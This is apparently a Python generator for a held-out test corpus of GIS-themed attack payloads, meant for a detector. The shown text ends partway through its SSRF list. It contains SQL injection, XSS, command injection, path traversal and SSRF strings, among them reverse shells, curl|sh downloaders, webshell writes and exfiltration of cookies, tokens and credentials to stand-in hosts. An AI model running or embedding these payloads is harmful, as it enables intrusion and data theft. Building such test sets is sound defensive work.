"""Attack held-out corpus for the `gis` theme (ids ha50-NNNNN).

Payloads hidden in the notations and fields of a web-mapping app, a
field-survey tool and a geodata catalogue: CQL / ArcGIS `where` filters,
bbox and SRID parameters, WKT and GeoJSON literals, layer and style names,
OSM tag values, tile/WMS/WFS URLs, GDAL/OGR command lines, SLD/KML/GPX/GML
uploads, popup and print templates, attribute-table exports, survey notes
written to logs, share-by-mail forms, LDAP crew logins and XPath searches
over ISO 19139 catalogue records.

Each class is `<context>-<technique>[+<encoding>]`; `plain-` classes are
context-free classics. Every payload is hand-written (or a small template
over hand-written pools) from an understanding of the technique; attacker
infrastructure is attacker.example / 203.0.113.0/24 / 198.51.100.0/24 and
all secrets are placeholders.
Run: python3 make_attacks.py  ->  attacks.jsonl next to this file.
"""
import importlib.util
import json
import random
import sys
from pathlib import Path

SEED = 5002
PREFIX = "ha50"
MAX_LEN = 1800

# ---------------------------------------------------------------------------
# sqli: value concatenated into PostGIS / SpatiaLite / GeoPackage / MySQL /
# SQL Server / Oracle / H2 statements
# ---------------------------------------------------------------------------
SQLI = [
    ("cql_filter-union", "STATE_ABBR = 'WA' UNION SELECT usename, passwd, NULL FROM pg_shadow--"),
    ("arcgis_where-union", "1=1) UNION ALL SELECT NULL, table_name, column_name, NULL FROM information_schema.columns--"),
    ("wkt_literal-union", "POINT(-122.33 47.61)', 4326)) UNION SELECT 1, current_user, version(), NULL--"),
    ("wkt_literal-error_cast", "POINT(1 1)', CAST((SELECT version()) AS int))--"),
    ("bbox_param-boolean", "-122.45,47.49,-122.23,47.73) OR 1=1--"),
    ("bbox_param-time_blind", "-122.45,47.49,-122.23,(SELECT 47.73 FROM pg_sleep(6))"),
    ("srid_param-stacked", "4326); DROP TABLE parcels; --"),
    ("srid_param-error_cast", "4326 AND 1=CAST((SELECT passwd FROM pg_shadow LIMIT 1) AS int)"),
    ("layer_name-stacked", "parcels\"; UPDATE app_users SET role='admin' WHERE login='surveyor7'; --"),
    ("attribute_search-union", "Main St%' UNION SELECT email, password_hash FROM app_users--"),
    ("osm_tag_value-time_blind", "cafe'||(SELECT CASE WHEN substr(current_user,1,1)='p' THEN pg_sleep(5)::text ELSE '' END)||'"),
    ("mysql_wkt-error_extractvalue", "POINT(1 1)')) AND extractvalue(1, concat(0x7e, (SELECT user()), 0x7e))-- -"),
    ("mysql_wkt-time_blind", "POINT(1 1)') OR SLEEP(5)#"),
    ("mssql_geography-time_blind", "POINT(-122.33 47.61)', 4326); WAITFOR DELAY '0:0:7'--"),
    ("mssql_layer-oob_unc", "roads'; EXEC master..xp_dirtree '\\\\q1.attacker.example\\share'--"),
    ("oracle_sdo-oob_dns", "1' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual)||'.attacker.example')--"),
    ("gpkg_layer-union", "roads' UNION SELECT table_name, column_name, srs_id FROM gpkg_geometry_columns--"),
    ("spatialite_search-union", "x' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("spatialite_id-time_blind", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("order_by-boolean_case", "name, (CASE WHEN (SELECT substr(passwd,1,1) FROM pg_shadow LIMIT 1)='m' THEN ST_Area(geom) ELSE gid END)"),
    ("sort_param-error_div0", "(SELECT 1/0 FROM app_users WHERE login='admin' AND substr(pw_hash,1,1)='a')"),
    ("viewparams-tautology", "min_pop:50000;state:WA' OR 'a'='a"),
    ("viewparams-union", "low:0;high:1000) UNION SELECT 0, login||':'||pw_hash, NULL::geometry FROM staff--"),
    ("feature_note-stacked_copy_program", "x'; COPY (SELECT '') TO PROGRAM 'curl -s https://attacker.example/p.sh|sh';--"),
    ("geocode_query-oob_dblink", "Baker St' || (SELECT dblink_connect('host=203.0.113.9 user=x dbname=' || current_database()))||'"),
    ("feature_id-stacked_lo_import", "1; SELECT lo_import('/etc/passwd', 31337);--"),
    ("wkt_literal-union_file_read", "POINT(0 0)') UNION SELECT pg_read_file('/etc/passwd'), NULL--"),
    ("style_name-union_outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/tiles/t.php'-- -"),
    ("state_filter-boolean_blind", "WA' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77 AND 'x'='x"),
    ("county_filter-time_blind", "King' AND IF(MID(@@version,1,1)='8',SLEEP(4),0) AND '1'='1"),
    ("geocode_query-time_blind", "Baker Street' AND 1=(SELECT COUNT(*) FROM pg_sleep(5))--"),
    ("radius_param-union", "500)) AND 1=0 UNION SELECT id, username, password, 1 FROM staff--"),
    ("cql_filter-union+comment_space", "1=1/**/UNION/**/SELECT/**/usename,passwd/**/FROM/**/pg_shadow--"),
    ("layer_search-union+case_comment", "'/**/uNiOn/**/SeLeCt/**/null,version()--"),
    ("arcgis_where-union+urlenc", "STATE%3D%27WA%27%20UNION%20SELECT%20usename%2Cpasswd%20FROM%20pg_shadow--"),
    ("bbox_param-time_blind+double_urlenc", "1%253D1%2529%2520AND%2520%2528SELECT%25201%2520FROM%2520pg_sleep%25285%2529%2529%253D1--"),
    ("layer_title-second_order_insert", "Parcels 2024'); INSERT INTO layer_acl(layer, role) VALUES ('*', 'anonymous');--"),
    ("geojson_literal-time_blind", "{\"type\":\"Point\",\"coordinates\":[0,0]}') IS NOT NULL OR (SELECT 1 FROM pg_sleep(6))=1 OR ST_GeomFromGeoJSON('{}"),
    ("survey_note-insert_subquery", "Fence damaged', (SELECT string_agg(login||':'||pw_hash, ';') FROM app_users), 4326)--"),
    ("mssql_feature_id-stacked_xp_cmdshell", "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'certutil -urlcache -f http://203.0.113.40/a.exe %TEMP%\\a.exe'--"),
    ("mssql_name_search-error_convert", "Lake' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("oracle_layer-union", "x' UNION SELECT NULL, banner FROM v$version--"),
    ("oracle_filter-time_blind", "Oslo' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x', 8)--"),
    ("wkt_literal-tautology_spatial", "POLYGON((0 0,0 1,1 1,1 0,0 0))', 4326)) OR ST_IsValid(geom) OR ST_Intersects(geom, ST_GeomFromText('POINT(0 0)"),
    ("mbtiles_zoom-union", "0 UNION SELECT 1, 1, 1, sqlite_version()"),
    ("mbtiles_tile_row-union_schema", "3 UNION SELECT 1, 1, 1, group_concat(sql) FROM sqlite_master"),
    ("survey_date-time_blind", "2023-01-01' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"),
    ("feature_id-stacked_dollar_quote", "1; CREATE TEMP TABLE t(x text); COPY t FROM $$/etc/passwd$$; SELECT * FROM t;--"),
    ("feature_id-boolean_chr", "1 AND (SELECT pg_read_file(CHR(47)||'etc'||CHR(47)||'passwd')) IS NOT NULL"),
    ("mysql_feature_id-union_hex", "0 UNION SELECT 1, LOAD_FILE(0x2f6574632f706173737764)"),
    ("geojson_body-tautology+unicode_escape", "{\"where\":\"STATE_NAME = \\u0027x\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("name_filter-error_geom_parse", "x' AND (SELECT ST_AsText(ST_GeomFromText(current_setting('data_directory'))))='1"),
    ("state_filter-tautology+newline_comment", "WA'#\nOR 1=1 LIMIT 500#"),
    ("hstore_key-union", "name' FROM planet_osm_point UNION SELECT usename||':'||passwd FROM pg_shadow--"),
    ("field_calc-stacked_privesc", "area_ha * 1; ALTER USER gis_viewer WITH SUPERUSER;--"),
    ("owner_filter-boolean_like", "O'Brien' AND (SELECT pw_hash FROM app_users WHERE login='admin') LIKE '$2b$12$a%"),
    ("limit_param-stacked_sleep", "10; SELECT pg_sleep(7)--"),
    ("osm_id-boolean", "4242 AND substring(version(),1,10)='PostgreSQL'"),
    ("sqlite_export_name-attach_webshell", "x'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t(c text); INSERT INTO s.t VALUES ('<?php system($_GET[\"c\"]); ?>');--"),
    ("h2_geodb_id-stacked_alias", "1; CREATE ALIAS EXECX AS 'String e(String c) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).next(); }'; CALL EXECX('id');--"),
    ("plain-tautology", "' OR '1'='1' --"),
    ("plain-union", "1 UNION SELECT username, password FROM users--"),
    ("plain-stacked", "'; DROP TABLE users; --"),
    ("plain-time_blind", "1' AND SLEEP(5)-- -"),
    ("plain-boolean", "admin' AND 1=1--"),
    ("plain-error", "' AND 1=CONVERT(int, @@version)--"),
    ("plain-stacked_pg_sleep", "1;SELECT pg_sleep(10)"),
]

# app builds  ... WHERE <field> = '<value>'  with the value pasted between quotes
SQLI_VALUES = ["WA", "forest", "R-2", "primary", "Hauptstraße", "King", "Active", "Forêt de Sénart"]
SQLI_TAILS = [
    ("union", "' UNION SELECT login, pw_hash FROM app_users--"),
    ("time_blind", "' AND (SELECT 1 FROM pg_sleep(5))=1--"),
    ("tautology", "' OR 'x'='x"),
    ("stacked", "'; DELETE FROM layer_acl;--"),
    ("error_cast", "' AND 1=CAST(current_user AS int)--"),
    ("boolean", "' AND substr(current_setting('server_version'),1,2)='16"),
]


def tpl_sqli(rng):
    tech, tail = rng.choice(SQLI_TAILS)
    return f"attribute_value-{tech}", rng.choice(SQLI_VALUES) + tail


# ---------------------------------------------------------------------------
# xss: value rendered into popups, labels, legends, attributions, KML/SVG,
# inline scripts and attributes without escaping
# ---------------------------------------------------------------------------
XSS = [
    ("popup_html-img_onerror", "Pike Place <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
    ("popup_html-svg_onload", "<svg onload=navigator.sendBeacon('//attacker.example/b',localStorage.getItem('token'))>"),
    ("title_attr-attr_break_dq", "Lake Union\" onmouseover=\"alert(document.domain)\" x=\""),
    ("input_value_attr-attr_break_sq", "L'Aquila' autofocus onfocus='location=\"//attacker.example/?c=\"+document.cookie"),
    ("feature_link-javascript_url", "javascript:fetch('//attacker.example/k',{method:'POST',body:document.cookie})"),
    ("feature_link-javascript_url+html_entities", "jav&#x61;script&colon;alert(document.domain)"),
    ("feature_link-javascript_url+tab_split", "java\tscript:alert(document.cookie)"),
    ("map_title_js-string_break", "Harbor Map\";fetch('//attacker.example/?'+document.cookie);//"),
    ("inline_config_js-script_close", "</script><script src=https://attacker.example/x.js></script>"),
    ("kml_description-cdata_img+base64", "<description><![CDATA[<img src=1 onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))>]]></description>"),
    ("svg_marker-script", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"24\" height=\"24\"><script>fetch('//attacker.example/s?'+document.cookie)</script><circle cx=\"12\" cy=\"12\" r=\"6\"/></svg>"),
    ("layer_attribution-onclick", "© Survey Co. <a href=# onclick=\"document.location='//attacker.example/?'+document.cookie\">terms</a>"),
    ("legend_html-iframe_srcdoc+html_entities", "<iframe srcdoc=\"&lt;script&gt;top.location=&quot;//attacker.example/p&quot;&lt;/script&gt;\"></iframe>"),
    ("popup_html-details_ontoggle", "Trailhead <details open ontoggle=alert(document.cookie)>"),
    ("search_box-input_autofocus", "<input autofocus onfocus=alert(origin)>"),
    ("sanitized_note-noscript_mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.domain)>\">"),
    ("js_string_sq-arith_break", "Oslo'-alert(document.domain)-'"),
    ("inline_geojson-script_close", "{\"name\":\"</script><svg/onload=alert(document.domain)>\"}"),
    ("survey_note_markdown-javascript_link", "[Site photo](javascript:alert(document.cookie))"),
    ("legend_html-object_data_uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("popup_html-video_source_onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("legend_html-body_onload", "<body onload=\"import('//attacker.example/m.js')\">"),
    ("map_label-marquee_onstart", "<marquee onstart=alert(document.domain)>Route closed</marquee>"),
    ("svg_symbol-xlink_javascript", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"20\" y=\"20\">Parcel 17</text></a></svg>"),
    ("svg_symbol-animate_onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("geojson_property-img_onerror+unicode_escape", "{\"name\":\"\\u003cimg src=x onerror=alert(document.domain)\\u003e\"}"),
    ("search_box-img_onerror+urlenc", "%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E"),
    ("search_box-svg_onload+double_urlenc", "%253Csvg%2520onload%253Dalert(document.cookie)%253E"),
    ("popup_html-img_onerror+case_mix", "<ImG sRc=x OnErRoR=alert(document.domain)>"),
    ("popup_html-svg_slash_separator", "Bus stop<svg/onload=alert(document.domain)>"),
    ("popup_html-location_javascript", "<img src=x onerror=location='javascript:alert%28document.domain%29'>"),
    ("popup_html-fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("angular_popup-client_template", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("layer_url_attr-attr_break_script", "https://tiles.example.net/\"><script>alert(document.domain)</script>"),
    ("edit_form-textarea_break", "</textarea><img src=x onerror=alert(document.domain)>"),
    ("page_title-title_break", "Harbour survey</title><svg onload=alert(document.domain)>"),
    ("html_comment-comment_break", "--><img src=x onerror=alert(document.cookie)><!--"),
    ("legend_html-base_hijack", "<base href=\"//attacker.example/\">"),
    ("popup_html-meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("popup_html-form_phishing", "<form action=\"https://attacker.example/collect\" method=post>Session expired<input name=pw type=password><button>Log in</button></form>"),
    ("legend_html-embed_svg", "<embed src=\"https://attacker.example/x.svg\" type=\"image/svg+xml\">"),
    ("popup_html-iframe_javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("popup_html-dynamic_import", "<img src=\"x\" onerror=\"import('https://attacker.example/x.mjs')\">"),
    ("svg_symbol-foreignobject_iframe", "<svg><foreignObject width=\"100\" height=\"50\"><iframe srcdoc=\"<script>alert(document.domain)</script>\"></iframe></foreignObject></svg>"),
    ("popup_html-handler+html_entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#100;&#111;&#109;&#97;&#105;&#110;&#41;\">"),
    ("popup_html-anchor_javascript+html_entities", "<a href=\"&#106;avascript:alert(document.cookie)\">Open survey</a>"),
    ("feature_link-javascript_url+urlenc", "javascript:%61lert(document.domain)"),
    ("popup_html-empty_src_onerror", "<img src onerror=alert(document.domain)>"),
    ("popup_html-pointerenter", "<div onpointerenter=alert(document.domain)>hover station 12</div>"),
    ("svg_label-style_mxss", "<svg><style><img src=x onerror=alert(document.domain)></style></svg>"),
    ("osm_tag_value-script_write", "name=<script>document.write('<img src=//attacker.example/?'+encodeURIComponent(document.cookie)+'>')</script>"),
    ("wkt_error_reflect-img_onerror", "POINT(1 1)<img src=x onerror=alert(document.domain)>"),
    ("geocode_noresult-script_image", "Main St</p><script>new Image().src='//attacker.example/?'+document.cookie</script>"),
    ("onclick_js_string-paren_break", "');alert(document.domain);//"),
    ("popup_html-eval_src_label", "<img src=x:alert(alt) onerror=eval(src) alt=document.domain>"),
    ("popup_html-settimeout_concat", "<svg onload=setTimeout('al'+'ert(document.domain)')>"),
    ("survey_photo_caption-anchor_javascript", "<a href=javascript:alert(document.cookie)>photo 0231</a>"),
    ("layer_description-keylogger", "<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("tooltip_html-svg_onload+tab_separator", "<svg\tonload=alert(document.domain)>"),
    ("popup_html-onanimationstart", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(document.domain)\">Depot</b>"),
    ("leaflet_divicon-img_onerror_exfil", "<div class='pin'><img src=/none.png onerror=\"this.onerror=null;this.src='//attacker.example/t?'+document.cookie\"></div>"),
    ("plain-script_tag", "<script>alert(document.cookie)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg_onload", "<svg onload=alert(1)>"),
    ("plain-javascript_url", "javascript:alert(document.domain)"),
    ("plain-attr_break", "\"><script>alert(1)</script>"),
    ("plain-body_onload", "<body onload=alert('xss')>"),
    ("plain-iframe_javascript", "<iframe src=javascript:alert(1)>"),
]

XSS_PLACES = ["Pike Place", "Rue de l'Église", "Ulica Długa 4", "Bench #12", "Hydrant 4471", "Parc Güell",
              "Trailhead N", "Brunnen am Markt"]
XSS_TAILS = [
    ("img_onerror", " <img src=x onerror=alert(document.domain)>"),
    ("svg_onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("details_ontoggle", " <details open ontoggle=alert(origin)>"),
    ("script_src", "<script src=//attacker.example/p.js></script>"),
    ("iframe_javascript", " <iframe src=javascript:alert(document.cookie)>"),
]


def tpl_xss(rng):
    tech, tail = rng.choice(XSS_TAILS)
    return f"feature_name-{tech}", rng.choice(XSS_PLACES) + tail


# ---------------------------------------------------------------------------
# cmdi: value lands in a shell line running gdal/ogr/tippecanoe/ping/tar...
# ---------------------------------------------------------------------------
CMDI = [
    ("ogr_input_file-semicolon", "roads_2023.shp; curl -fsS https://attacker.example/i.sh | sh"),
    ("ogr_input_file-and_chain", "parcels.gpkg && wget -qO- http://203.0.113.7/x | bash"),
    ("ogr_input_file-pipe_revshell", "hydro.shp | nc 203.0.113.12 9001 -e /bin/sh"),
    ("gdal_input_raster-or_chain", "dem.tif || busybox nc 198.51.100.23 4444 -e sh"),
    ("upload_filename-subshell", "$(curl -s attacker.example/k|sh).shp"),
    ("mbtiles_name-backtick", "tiles_`whoami`.mbtiles"),
    ("t_srs_quoted-quote_break", "EPSG:4326\" ; cat /etc/passwd | curl -sd @- https://attacker.example/u ; echo \""),
    ("ogr_where_quoted-quote_break", "STATE='WA'\" roads.shp; id; echo \""),
    ("layer_name-newline", "roads\ncurl https://attacker.example/n -o /tmp/n && sh /tmp/n"),
    ("gdal_output_name-ifs", "x;cat${IFS}/etc/shadow|nc${IFS}203.0.113.5${IFS}80"),
    ("ogr_input_file-brace_expansion", "a.shp;{curl,-s,https://attacker.example/b}|sh"),
    ("gdal_input_raster-glob_obfuscation", "a.tif;/???/?at /???/??ss??"),
    ("ogr_input_file-quote_split", "a.shp;w'h'o'a'm'i"),
    ("ogr_input_file-empty_dq_split", "b.shp;c\"\"url -s attacker.example/q|s\"\"h"),
    ("ogr_input_file-var_concat", "a.shp;a=cu;b=rl;$a$b -s attacker.example/x|sh"),
    ("gpkg_output-base64_pipe", "out.gpkg; echo Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcyB8IHNo | base64 -d | sh"),
    ("layer_name-printf_hex", "roads_$($(printf '\\x69\\x64'))"),
    ("win_shapefile_path-ampersand_powershell", "parcels.shp & powershell -nop -c \"iwr https://attacker.example/p.ps1 | iex\""),
    ("win_shapefile_path-pipe_type", "C:\\data\\roads.shp | type C:\\Windows\\win.ini"),
    ("win_raster_path-certutil", "dem.tif && certutil -urlcache -split -f http://203.0.113.50/t.exe %TEMP%\\t.exe && %TEMP%\\t.exe"),
    ("win_shapefile_path-caret_obfuscation", "a.shp & w^h^o^a^m^i"),
    ("export_bundle_filename-tar_checkpoint", "--checkpoint=1"),
    ("export_bundle_filename-tar_checkpoint_action", "--checkpoint-action=exec=sh tiles.sh"),
    ("sftp_source_host-ssh_proxycommand", "-oProxyCommand=curl -s attacker.example/p|sh"),
    ("style_repo_url-git_upload_pack", "--upload-pack=touch /tmp/pwned"),
    ("ogr_sql_args-argument_injection", "-dialect SQLite -sql \"SELECT load_extension('/tmp/uploads/evil.so')\""),
    ("gdal_creation_option-subshell", "COMPRESS=DEFLATE $(id>/tmp/o)"),
    ("ogr_input_file-webshell_write", "a.shp; echo '<?php system($_GET[0]);?>' > /var/www/html/t.php"),
    ("ogr_input_file-cron_persistence", "roads.shp; (crontab -l; echo \"* * * * * curl -s attacker.example/c|sh\") | crontab -"),
    ("layer_name-ssh_key_plant", "x; mkdir -p ~/.ssh; echo ssh-ed25519 AAAAFAKEKEYFAKEKEYFAKEKEY attacker >> ~/.ssh/authorized_keys"),
    ("gdal_input_raster-dns_exfil", "x.tif; nslookup $(whoami).q.attacker.example"),
    ("tile_server_ping-semicolon", "tiles.example.net; id"),
    ("tile_server_ping-and_chain", "127.0.0.1 -c 1 && cat /etc/hosts"),
    ("tile_server_ping-pipe", "198.51.100.1 | cat /proc/self/environ"),
    ("ogr_input_file-time_sleep", "roads.shp; sleep 9"),
    ("layer_name-subshell_sleep", "roads$(sleep 7)"),
    ("gdal_input_raster-pipe_ping_delay", "dem.tif | ping -c 10 127.0.0.1"),
    ("ogr_input_file-newline+urlenc", "roads.shp%0Aid"),
    ("ogr_input_file-semicolon+urlenc", "roads.shp%3Bcurl%20https%3A%2F%2Fattacker.example%2Fa%7Csh"),
    ("ogr_input_file-semicolon+double_urlenc", "roads.shp%253Bid%253Buname%2520-a"),
    ("gpkg_output-python_revshell", "a.gpkg; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("ogr_input_file-bash_dev_tcp", "a.shp; bash -c 'bash -i >& /dev/tcp/198.51.100.77/8443 0>&1'"),
    ("tile_name-nested_subshell_exfil", "tile_$(curl -s attacker.example/?h=$(</etc/hostname)).png"),
    ("layer_name-path_substring", "x;${PATH:0:1}bin${PATH:0:1}sh -c id"),
    ("ogr_input_file-cat+tab_separator", "a.shp;cat\t/etc/passwd"),
    ("ogr_input_file-brace_base64", "a.shp;{echo,Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcyB8IHNo}|{base64,-d}|sh"),
    ("win_output_path-comspec", "out.shp & %COMSPEC% /c net user"),
    ("win_layer_name-powershell_enc+base64", "x & powershell -nop -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAGEALgBwAHMAMQB8AGkAZQB4AA=="),
    ("thumbnail_source-imagemagick_pipe", "|curl -s attacker.example/im|sh"),
    ("kmz_export_name-subshell", "field_day_1$(curl attacker.example/z|sh)"),
    ("reproject_crs-backtick_exfil", "EPSG:`curl -s attacker.example/e?$(id|base64)`"),
    ("gdal_input_raster-socat_revshell", "dem.tif; socat TCP:203.0.113.88:9000 EXEC:/bin/sh"),
    ("vrt_source-background_dropper", "mosaic.vrt & wget -q http://198.51.100.14/m -O /tmp/m; chmod +x /tmp/m; /tmp/m &"),
    ("osm_extract_bbox-semicolon", "5.9,45.8,10.5,47.8; curl -s attacker.example/o|sh"),
    ("gdal_nodata_value-subshell_destroy", "-9999 $(rm -rf /srv/tiles/cache)"),
    ("ogr_input_file-env_exfil", "a.shp; env | curl -s -X POST --data-binary @- https://attacker.example/env"),
    ("ogr_input_file-cloud_token_exfil", "a.shp; curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | curl -d @- https://attacker.example/t"),
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-pipe", "| id"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and_chain", "&& ls -la /"),
    ("plain-or_chain", "|| ping -c 5 127.0.0.1"),
    ("plain-win_ampersand", "& dir C:\\"),
]

CMDI_FILES = [("roads", "shp"), ("parcels_2024", "gpkg"), ("dem_10m", "tif"), ("trees", "geojson"),
              ("export", "kml"), ("ortho", "jp2"), ("gemeinden", "fgb")]
CMDI_CMDS = ["id", "curl -s https://attacker.example/r | sh", "cat /etc/passwd", "wget -qO- 203.0.113.44/s|sh",
             "sleep 8", "nc 198.51.100.9 443 -e /bin/sh"]


def tpl_cmdi(rng):
    stem, ext = rng.choice(CMDI_FILES)
    cmd = rng.choice(CMDI_CMDS)
    style = rng.randrange(5)
    if style == 0:
        return "ogr_input_file-semicolon", f"{stem}.{ext}; {cmd}"
    if style == 1:
        return "ogr_input_file-and_chain", f"{stem}.{ext} && {cmd}"
    if style == 2:
        return "ogr_input_file-newline", f"{stem}.{ext}\n{cmd}"
    if style == 3:
        return "output_name-subshell", f"{stem}_$({cmd}).{ext}"
    return "output_name-backtick", f"{stem}_`{cmd}`.{ext}"


# ---------------------------------------------------------------------------
# traversal: value joined to a data / tile / style / export directory
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("tile_z_param-dotdot", "14/../../../../../../proc/self/environ"),
    ("tile_z_param-dotdot+urlenc", "..%2f..%2f..%2f..%2fhome%2fgis%2f.pgpass"),
    ("style_file-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("symbol_path-dotdot+urlenc_dots", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("download_param-dotdot+double_urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("download_param-dotdot+overlong_utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("tile_path-dotdot+overlong_utf8_slash", "..%c0%af..%c0%af..%c0%afetc/hosts"),
    ("style_file-strip_once_bypass", "....//....//....//etc/passwd"),
    ("win_symbol_path-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("win_export_path-backslash_webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("upload_zip_entry-zip_slip", "../../../../../var/www/html/uploads/x.php"),
    ("upload_zip_entry-zip_slip_win", "..\\..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\s.aspx"),
    ("upload_zip_entry-zip_slip_bashrc", "roads/../../../../../home/gis/.bashrc"),
    ("shapefile_name-dotdot+null_byte", "../../../../etc/passwd%00.shp"),
    ("projection_file-dotdot_win+null_byte", "..\\..\\..\\boot.ini%00.prj"),
    ("geoserver_style-dotdot", "styles/../../../../../../etc/hosts"),
    ("sld_external_graphic-file_dotdot", "file:../../../../etc/passwd"),
    ("font_path-dotdot", "fonts/../../../../root/.ssh/id_rsa"),
    ("print_template-dotdot_env", "../../.env"),
    ("export_name-dotdot_config", "../../config/database.yml"),
    ("mbtiles_name-dotdot_settings", "../../../app/settings.py"),
    ("geoserver_resource-webinf", "../WEB-INF/web.xml"),
    ("geoserver_style-users_xml", "../../../security/usergroup/default/users.xml"),
    ("geoserver_resource-masterpw", "../../security/masterpw.info"),
    ("mapserver_map-absolute_path", "/var/lib/postgresql/.pgpass"),
    ("qgis_server_map-dotdot", "../../../../home/qgis/.pg_service.conf"),
    ("tile_path-dotdot+iis_unicode", "%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("download_param-dotdot+fullwidth", "．．／．．／．．／etc／passwd"),
    ("tomcat_path-path_param", "..;/..;/..;/WEB-INF/web.xml"),
    ("geoserver_www-dotdot", "/geoserver/www/../../../../../etc/passwd"),
    ("win_download-dotdot+urlenc_backslash", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("tile_cache_key-k8s_token+urlenc", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("export_file-aws_creds", "../../../../../home/ubuntu/.aws/credentials"),
    ("export_file-ssl_key", "exports/2024/../../../../../etc/ssl/private/server.key"),
    ("mbtiles_name-app_db", "../../../../srv/app/instance/app.db"),
    ("win_path-absolute_sam", "C:\\Windows\\System32\\config\\SAM"),
    ("win_path-dotdot_forward", "../../../../Windows/System32/drivers/etc/hosts"),
    ("icon_path-proc_self", "../../../../proc/self/cmdline"),
    ("log_viewer_file-dotdot_nginx", "../../../../var/log/nginx/access.log"),
    ("gdal_dataset_path-vsisubfile_absolute", "/vsisubfile/0_4096,/etc/shadow"),
    ("style_file-dotdot_mixed_slash", "..\\../..\\../etc/passwd"),
    ("shapefile_name-dotdot_history", "../../../root/.bash_history"),
    ("plain-dotdot", "../../../../etc/passwd"),
    ("plain-dotdot_win", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot+urlenc", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
]

TRAV_PREFIXES = [("tile_path", "tiles/osm/"), ("style_file", "styles/"), ("export_file", "exports/"),
                 ("symbol_path", "symbols/svg/"), ("layer_file", "")]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.pgpass", "home/gis/.ssh/id_ed25519",
                "opt/geoserver/data_dir/security/usergroup/default/users.xml"]


def tpl_traversal(rng):
    ctx, prefix = rng.choice(TRAV_PREFIXES)
    depth = rng.randint(4, 8)
    target = rng.choice(TRAV_TARGETS)
    if rng.random() < 0.75:
        return f"{ctx}-dotdot", prefix + "../" * depth + target
    return f"{ctx}-dotdot+urlenc", prefix + "..%2f" * depth + target.replace("/", "%2f")


# ---------------------------------------------------------------------------
# ssrf: value is a URL the server fetches (remote layer, WMS cascade, tile
# template, GDAL /vsicurl/, SLD graphic, webhook, thumbnail)
# ---------------------------------------------------------------------------
SSRF = [
    ("remote_geojson_url-aws_imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("wms_cascade_url-aws_imds_token", "http://169.254.169.254/latest/api/token"),
    ("remote_layer_url-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("remote_layer_url-azure_imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
